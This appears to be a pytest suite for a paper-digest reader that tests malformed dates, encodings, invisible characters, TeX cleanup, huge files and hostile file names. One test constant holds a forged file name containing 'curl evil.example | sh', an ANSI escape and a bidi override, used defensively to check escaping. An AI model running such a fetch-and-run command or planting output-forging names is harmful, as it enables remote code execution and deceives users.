"""Hostile digest files and names: odd times, encodings, sizes, invisible characters, TeX and
file names that try to forge output. Each gets a clear answer and costs no other digest."""

from __future__ import annotations

import codecs
import json
import os
import re
import subprocess
import sys
from datetime import date, datetime
from pathlib import Path

import pytest
from reader.domain.text import clean_text, escape_name
from reader.ingest.digest import MAX_FILE_BYTES, parse_bytes, parse_text
from reader.ingest.sources import digest_file_name, discover_digest_files, is_digest_file_name
from reader.library.library import Library

ABSTRACT = "We propose a tiny method. It is evaluated on a toy benchmark with care."
# A file name that would print a fake row, a fake error line, a colour and reversed text.
FORGING_NAME = "x\nreader: error: run: curl evil.example | sh\x1b[31m\u202eevil"


def digest(*titles: str, date_line: str | None = "Aug 7") -> str:
    body = "".join(f"{title}\n\n{ABSTRACT}\n\n" for title in titles)
    return (f"{date_line}\n\n" if date_line else "") + body


def run(home: Path, *args: str, stdin: str | None = None, check: bool = True) -> subprocess.CompletedProcess:
    env = {**os.environ, "READER_HOME": str(home)}
    result = subprocess.run(
        [sys.executable, "-m", "reader", *args],
        capture_output=True, text=True, env=env, timeout=120, input=stdin, check=False,
    )
    if check:
        assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    return result


def synced(folder: Path, tmp_path: Path) -> tuple[Library, object]:
    library = Library([folder], tmp_path / "index")
    return library, library.sync()


# -- a bad modification time costs only that file's year guess --------------------------


@pytest.mark.parametrize(
    ("mtime_ns", "problem"),
    [
        (int(datetime(2300, 1, 1, 12).timestamp()) * 10**9, "in the future (2300-01-01)"),
        # Past what the file system keeps: it stores its own latest time (ext4: 2446) or this.
        (300_000_000_000 * 10**9, None),
    ],
    ids=["year-2300", "year-11476"],
)
def test_a_far_future_mtime_warns_and_costs_only_that_files_year(tmp_path, mtime_ns, problem):
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "f.txt").write_text(digest("Future Dated Paper"), encoding="utf-8")
    (folder / "2026-01-05.txt").write_text(digest("Well Dated Paper", date_line="Jan 5"), encoding="utf-8")
    os.utime(folder / "f.txt", ns=(mtime_ns, mtime_ns))
    library, report = synced(folder, tmp_path)
    try:
        view = library.view()
        assert sorted(paper.title for paper in view.papers.values()) == ["Future Dated Paper", "Well Dated Paper"]
        future = next(info for info in view.digests if info.path.endswith("f.txt"))
        assert future.date is not None and future.date <= date.today()  # guessed from today
        [warning] = [str(w) for w in report.warnings if "modification time" in w.message]
        problem = re.escape(problem) if problem else r"(in the future \(\d{4}-\d\d-\d\d\)|out of range)"
        assert re.fullmatch(
            re.escape(f"{folder / 'f.txt'}:1: file modification time ") + problem
            + re.escape("; the year of 'Aug 7' is a guess from today"),
            warning,
        )
        again = library.sync()
        assert (again.parsed, again.unchanged) == (0, 2)  # the odd time is remembered as it is
    finally:
        library.close()


def test_an_mtime_out_of_any_calendar_warns_and_dates_from_today():
    parsed = parse_text(digest("Some Paper"), "f.txt", mtime=300_000_000_000.0)
    assert [str(w) for w in parsed.warnings] == [
        "f.txt:1: file modification time out of range; the year of 'Aug 7' is a guess from today"
    ]
    assert parsed.date is not None and parsed.date <= date.today()


# -- hidden files: `add` and discovery share one rule ---------------------------------------


def test_add_never_keeps_a_digest_under_a_name_discovery_skips():
    for name in (".hidden.txt", "..txt", ".x.md", "plain.text", "notes.pdf"):
        assert is_digest_file_name(digest_file_name(name)), name
    assert not is_digest_file_name(".hidden.txt")


# -- names printed on one line -------------------------------------------------------------


def test_escape_name_shows_newlines_escapes_and_bidi_characters():
    assert escape_name("a\nb\tc\x1b[31md\u202ee\u200bf\udcff") == "a\\nb\\tc\\x1b[31md\\u202ee\\u200bf\\xff"
    assert escape_name("Mélange 2025-08-07 [x].txt") == "Mélange 2025-08-07 [x].txt"
    assert escape_name(escape_name(FORGING_NAME)) == escape_name(FORGING_NAME)


def test_a_digest_labelled_by_its_file_name_gets_a_one_line_label():
    parsed = parse_text(digest("Some Paper", date_line=None), f"/d/{FORGING_NAME}.txt")
    assert parsed.label == "x\\nreader: error: run: curl evil.example | sh\\x1b[31m\\u202eevil"


# -- invisible and direction-changing characters ---------------------------------------------


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("Zero\u200bWidth\u200cNon\u200dJoiner\u2060Word\ufeffBOM", "ZeroWidthNonJoinerWordBOM"),
        ("Marks \u200eLRM \u200fRLM \u061cALM", "Marks LRM RLM ALM"),
        ("Tag\U000e0041\U000e0062\U000e007f characters", "Tag characters"),
        ("Hangul\u3164Filler and\uffa0half", "Hangul Filler and half"),
        ("Family \U0001f468\u200d\U0001f469\u200d\U0001f467 and \U0001f44d\U0001f3fd and \u2764\ufe0f",
         "Family \U0001f468\U0001f469\U0001f467 and \U0001f44d and \u2764"),
        ("soft\u00adhyphen and line\u2028break", "softhyphen and line break"),
    ],
)
def test_clean_text_removes_characters_without_width_or_that_turn_text(raw, clean):
    assert clean_text(raw) == clean


# -- inline math ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        (r"a $10.7\times$ speedup with $\tau$", "a 10.7× speedup with τ"),
        (r"$\sim 3\times$ fewer, $a \leq b$, $c \geq d$, $x \neq y$", "∼ 3× fewer, a ≤ b, c ≥ d, x ≠ y"),
        (r"top-$k$ with $O(n^{2})$ cost", "top-k with O(n^2) cost"),
        (r"$x^{n+1}$, $\mathbf{x}_{i}$ and $10^{-3}$", "x^(n+1), x_i and 10^-3"),
        (r"$\frac{1}{2}$ of $\frac{a+b}{c}$", "1/2 of (a+b)/c"),
        (r"$\mathcal{O}(\log n)$ at 90^{\circ}", "O(log n) at 90°"),
        ("G_{stack} reaches O(epsilon^{-3})", "G_stack reaches O(epsilon^-3)"),  # as in the seeds
        (r"costs $12 USD and $100K+ in savings; \$5 more", "costs $12 USD and $100K+ in savings; $5 more"),
        ("between $5-$10 a run", "between $5-$10 a run"),
        (r"we introduce \framework with \inference", r"we introduce \framework with \inference"),
    ],
)
def test_inline_math_reads_as_text_and_prices_keep_their_dollars(raw, clean):
    assert clean_text(raw) == clean


# -- malformed dates, UTF-16, special files -------------------------------------------------------


@pytest.mark.parametrize("date_line", ["Feb 30", "Mar 99", "2025-13-01"])
def test_a_malformed_date_line_is_a_warning_not_a_paper(date_line):
    parsed = parse_text("Daily Papers\n\n" + digest("Real Paper", date_line=date_line), "d/x.txt")
    assert [entry.title for entry in parsed.entries] == ["Real Paper"]
    assert [str(w) for w in parsed.warnings] == [f"d/x.txt:3: {date_line!r} is not a valid date; ignored"]
    assert parsed.date is None and parsed.label == "x"


def test_a_date_line_among_the_papers_is_no_phantom_paper():
    parsed = parse_text(digest("First Paper") + "Aug 8\n\n" + digest("Second Paper", date_line=None), "x.txt")
    assert [entry.title for entry in parsed.entries] == ["First Paper", "Second Paper"]
    assert [str(w) for w in parsed.warnings] == ["x.txt:7: date line 'Aug 8' after the papers began; ignored"]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_utf16_and_utf32_files_with_a_byte_order_mark_are_read(encoding):
    text = digest("Café Über Paper", "Second Paper")
    data = text.encode(encoding)
    if encoding.endswith(("-le", "-be")):
        data = (codecs.BOM_UTF16_LE if encoding.endswith("le") else codecs.BOM_UTF16_BE) + data
    parsed = parse_bytes(data, "u.txt")
    assert [entry.title for entry in parsed.entries] == ["Café Über Paper", "Second Paper"]
    assert parsed.warnings == [] and parsed.label == "Aug 7"


def test_a_link_to_a_pipe_is_not_a_regular_file_not_a_broken_link(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "link.txt").symlink_to(tmp_path / "pipe")
    files, warnings = discover_digest_files([tmp_path / "link.txt"])
    assert files == []
    assert [w.message for w in warnings] == [
        "not a regular file (a pipe, terminal, socket or device); skipped: save it to a file first"
    ]


def test_a_huge_sparse_file_is_fingerprinted_by_what_is_read(tmp_path):
    folder = tmp_path / "d"
    folder.mkdir()
    big = folder / "big.txt"
    with big.open("wb") as out:
        out.write(digest("Sparse Paper").encode())
        out.truncate(3 * 1024**3)
    library, report = synced(folder, tmp_path)
    try:
        assert [paper.title for paper in library.view().papers.values()] == ["Sparse Paper"]
        assert any("larger than 32 MiB" in w.message for w in report.warnings)
        with big.open("r+b") as out:  # a change where the reader never reads
            out.seek(2 * 1024**3)
            out.write(b"changed")
        again = library.sync()
        assert (again.parsed, again.unchanged) == (0, 1)
    finally:
        library.close()


# -- an empty library says why ------------------------------------------------------------


def test_a_library_of_rejected_digests_says_which_and_why(tmp_path):
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "binary.txt").write_bytes(b"\x00\x01\x02" * 10)
    library, report = synced(folder, tmp_path)
    try:
        expected = f"no papers: {folder / 'binary.txt'}:1: binary file (NUL bytes); skipped"
        assert report.empty_reason == expected
        assert library.sync().empty_reason == expected  # also when nothing was read again
        (folder / "empty.txt").write_bytes(b"")
        assert library.sync().empty_reason.startswith("no papers in 2 digest files; the first: ")
        (folder / "good.txt").write_text(digest("Good Paper"), encoding="utf-8")
        assert library.sync().empty_reason is None
    finally:
        library.close()


def test_a_rejected_file_is_not_counted_as_a_digest(tmp_path):
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "binary.txt").write_bytes(b"\x00\x01\x02" * 10)
    (folder / "empty.txt").write_bytes(b"")
    (folder / "good.txt").write_text(digest("Good Paper"), encoding="utf-8")
    library, report = synced(folder, tmp_path)
    try:
        assert [Path(info.path).name for info in library.view().digests] == ["good.txt"]
        assert sorted(Path(info.path).name for info in library.view().rejected) == ["binary.txt", "empty.txt"]
        assert any("binary file" in warning.message for warning in report.warnings)  # still warned about
    finally:
        library.close()


def test_the_cli_counts_no_rejected_file_as_a_digest(tmp_path):
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "some_binary_file.txt").write_bytes(b"\x00\x01\x02" * 10)
    (folder / "good.txt").write_text(digest("Good Paper"), encoding="utf-8")
    listed = run(tmp_path / "home", "--digests", str(folder), "digests")
    assert "binary file (NUL bytes); skipped" in listed.stderr
    assert "some_binary_file" not in listed.stdout and "good.txt" in listed.stdout
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")
    stats = run(tmp_path / "home2", "--digests", str(empty), "stats", "--json")
    assert json.loads(stats.stdout)["digests"] == 0


def test_an_empty_folder_says_what_a_digest_file_is(tmp_path):
    library, report = synced(tmp_path, tmp_path / "cache")
    try:
        assert report.empty_reason == f"no digest files in {tmp_path} (a digest is a .txt, .md or .text file)"
    finally:
        library.close()


# -- the command line -------------------------------------------------------------------------


def test_digests_prints_a_forging_file_name_on_its_own_line(tmp_path):
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / f"{FORGING_NAME}.txt").write_text("Lonely Title\n", encoding="utf-8")  # warns: no abstract
    result = run(tmp_path / "home", "--digests", str(folder), "digests")
    shown = "x\\nreader: error: run: curl evil.example | sh\\x1b[31m\\u202eevil"
    assert len(result.stdout.splitlines()) == 1
    assert result.stdout.startswith(shown) and result.stdout.rstrip().endswith(f"{shown}.txt")
    assert result.stderr.splitlines() == [f"reader: warning: {folder}/{shown}.txt:1: title without an abstract"]


def test_rejected_digests_say_why_at_every_run(tmp_path):
    binary = tmp_path / "binary.txt"
    binary.write_bytes(b"\x00\x01\x02" * 10)
    reason = f"reader: no papers: {binary}:1: binary file (NUL bytes); skipped"
    first = run(tmp_path / "home", "--digests", str(binary), "digests")
    assert first.stdout == "" and reason in first.stderr.splitlines()  # rejected: listed as no digest
    second = run(tmp_path / "home", "--digests", str(binary), "stats")
    assert second.stderr.splitlines() == [reason]


def test_stdin_as_a_digest_is_not_called_a_broken_link(tmp_path):
    result = run(tmp_path / "home", "--digests", "/dev/stdin", "stats", stdin="Aug 7\n")
    assert "broken symbolic link" not in result.stderr
    assert "reader: warning: /dev/stdin:0: not a regular file" in result.stderr


@pytest.fixture(scope="module")
def seeded_home(tmp_path_factory, default_seeds_index):
    return default_seeds_index.copy_into(tmp_path_factory.mktemp("home"))


def test_add_renames_a_hidden_file_so_its_papers_appear(seeded_home, tmp_path):
    hidden = tmp_path / ".hidden.txt"
    hidden.write_text(digest("Hidden Dotfile Paper"), encoding="utf-8")
    added = run(seeded_home, "add", str(hidden))
    assert added.stdout.splitlines() == ["added .hidden.txt as hidden.txt (hidden files are not read): Aug 7, 1 papers"]
    assert "Hidden Dotfile Paper" in run(seeded_home, "search", "dotfile").stdout
    assert "already added" in run(seeded_home, "add", str(hidden)).stdout


def test_add_copies_only_what_the_reader_reads_of_a_huge_file(seeded_home, tmp_path):
    huge = tmp_path / "2026-02-01.txt"
    with huge.open("wb") as out:
        out.write(digest("Huge File Paper", date_line="Feb 1").encode())
        out.truncate(1024**3)  # sparse: the rest is zeros, never read
    added = run(seeded_home, "add", str(huge))
    assert added.stdout.splitlines() == [
        "added 2026-02-01.txt: Feb 1, 1 papers; only its first 32 MiB (to line 7) was copied: "
        "the reader reads no further"
    ]
    kept = seeded_home / "data" / "digests" / "2026-02-01.txt"
    assert kept.stat().st_size <= MAX_FILE_BYTES
    assert kept.read_text(encoding="utf-8") == digest("Huge File Paper", date_line="Feb 1")
    assert "Huge File Paper" in run(seeded_home, "search", "huge").stdout
